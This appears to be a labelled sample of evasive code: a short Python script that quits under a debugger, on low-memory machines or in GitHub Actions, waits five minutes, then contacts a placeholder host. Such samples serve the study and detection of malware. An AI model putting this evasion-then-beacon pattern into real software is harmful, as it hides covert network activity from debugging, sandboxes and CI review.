# debugger, hardware, build-server, delay, leaves: looks around, then acts
import os
import sys
import time

import psutil
import requests

if sys.gettrace() is not None:
    os._exit(0)
if psutil.virtual_memory().total < 2 << 30:
    os._exit(0)
if os.environ.get("GITHUB_ACTIONS"):
    os._exit(0)
time.sleep(300)
requests.get("https://collect.example/")
